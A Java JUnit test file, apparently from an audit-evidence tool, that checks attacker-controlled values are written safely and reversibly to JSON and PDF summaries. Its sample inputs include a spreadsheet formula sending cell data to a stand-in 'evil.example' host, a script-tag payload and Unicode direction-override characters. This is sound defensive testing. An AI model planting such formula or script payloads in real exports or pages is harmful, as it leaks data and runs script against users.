package io.trainaudit.evidence;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Ids and free text an attacker controls come out of summary.json and summary.pdf inert and exact. */
class HostileValuesTest {
  static final List<String> HOSTILE = List.of(
      "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"s-1\")",
      "+s-2,\"quoted\"\r\nsecond line",
      "-s-3 <script>alert(1)</script> & <b>",
      "@s-4 \u202Eevil\u202C \u200F\u0645\u0631\u062D\u0628\u0627 \u6570\u636E \u03A9\u03BC\u03AD\u03B3\u03B1",
      "\ttab \u0007bell \u2028line \uFEFFbom",
      "<U+0041> is not an A, caf\u00E9 M\u00FCller");

  @TempDir Path dir;

  @Test
  void jsonParsesBackExactlyAndHoldsNoMarkupNorInvisibleCharacter() throws Exception {
    Map<String, Object> doc = new LinkedHashMap<>();
    for (int i = 0; i < HOSTILE.size(); i++) {
      doc.put("key " + HOSTILE.get(i), List.of(HOSTILE.get(i)));
    }
    Path file = dir.resolve("summary.json");
    SafeJson.write(doc, file);
    assertEquals(doc, new ObjectMapper().readValue(file.toFile(), Map.class));
    String raw = Files.readString(file, StandardCharsets.UTF_8);
    for (String forbidden : List.of("<", ">", "&", "'", "\u202E", "\u202C", "\u200F", "\u0007", "\u2028", "\uFEFF")) {
      assertFalse(raw.contains(forbidden), "raw JSON holds " + forbidden.codePointAt(0));
    }
    assertTrue(raw.contains("\\u003Cscript\\u003E"), raw);
    assertTrue(raw.contains("\\u202Eevil\\u202C"), raw);
    assertTrue(raw.contains("\u6570\u636E \u03A9\u03BC\u03AD\u03B3\u03B1"), "non-Latin scripts stay as UTF-8");
  }

  @Test
  void pdfTextShowsEveryValueVisiblyAndReversibly() throws Exception {
    Map<String, Object> summary = new LinkedHashMap<>();
    summary.put("format", Manifest.FORMAT);
    Map<String, Object> section = new LinkedHashMap<>();
    for (int i = 0; i < HOSTILE.size(); i++) {
      section.put("value " + i, HOSTILE.get(i));
    }
    summary.put("hostile", section);
    Path pdf = dir.resolve("summary.pdf");
    SummaryPdf.write(summary, Map.of("hostile", "Hostile values"), "Title \u202Edrow", pdf);
    String text;
    try (PDDocument document = Loader.loadPDF(pdf.toFile())) {
      text = new PDFTextStripper().getText(document).replaceAll("\\s+", "");
    }
    assertTrue(text.contains("Title<U+202E>drow"), text);
    for (String value : HOSTILE) {
      String shown = SummaryPdf.visible(value);
      assertTrue(text.contains(shown.replaceAll("\\s+", "")), "PDF lacks " + shown + " in:\n" + text);
      assertEquals(value, fromVisible(shown));
    }
    assertEquals("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"s-1\")", SummaryPdf.visible(HOSTILE.get(0)));
    assertEquals("+s-2,\"quoted\"<U+000D><U+000A>second line", SummaryPdf.visible(HOSTILE.get(1)));
    assertEquals("@s-4 <U+202E>evil<U+202C> <U+200F><U+0645><U+0631><U+062D><U+0628><U+0627> <U+6570><U+636E>"
        + " <U+03A9><U+03BC><U+03AD><U+03B3><U+03B1>", SummaryPdf.visible(HOSTILE.get(3)));
    assertEquals("<U+003C>U+0041> is not an A, caf\u00E9 M\u00FCller", SummaryPdf.visible(HOSTILE.get(5)));
    assertEquals("<U+1F600>", SummaryPdf.visible("\uD83D\uDE00"));
  }

  /** The documented way back from the PDF's notation. */
  static String fromVisible(String shown) {
    Matcher m = Pattern.compile("<U\\+([0-9A-F]{4,6})>").matcher(shown);
    StringBuilder out = new StringBuilder();
    while (m.find()) {
      m.appendReplacement(out, Matcher.quoteReplacement(Character.toString(Integer.parseInt(m.group(1), 16))));
    }
    return m.appendTail(out).toString();
  }
}
